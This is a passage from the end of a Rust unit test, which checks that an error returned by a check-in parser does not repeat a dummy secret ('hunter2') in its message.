        let error = parse_check_in(&body, &GuardLimits::default()).unwrap_err();
        assert!(!format!("{error} {error:?}").contains("hunter2"), "{error}");
    }
}
